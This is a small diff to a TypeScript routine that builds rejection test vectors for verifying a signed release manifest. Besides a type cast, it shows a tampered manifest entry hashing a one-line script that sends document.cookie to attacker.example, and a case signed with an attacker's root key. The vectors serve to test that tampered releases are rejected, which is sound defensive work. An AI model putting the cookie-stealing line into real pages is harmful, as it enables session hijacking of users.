@@ -220,7 +220,7 @@ export async function buildRejectVectors(vectors: readonly Vector[]): Promise<Ve
   const release = find(vectors, 'release-manifest');
   const manifest = obj(release.expected, 'manifest');
   const releaseArgs = { manifest, rootSignPk: str(release.expected, 'rootSignPk') };
-  const releaseFiles = obj(manifest, 'files');
+  const releaseFiles = obj(manifest, 'files') as Readonly<Record<string, string>>;
   const evil = { ...releaseFiles, '/assets/index-a1b2c3.js': hashReleaseFile(utf8('fetch("https://attacker.example/" + document.cookie);\n')) };
   await add('release-control', 'release-verify', 'the published manifest verifies (control)', releaseArgs, 'none');
   await add('release-other-root', 'release-verify', 'verified against another root key', { ...releaseArgs, rootSignPk: b64(rootFrom(seedsFor('attacker')).signPk) }, 'wrong_key');
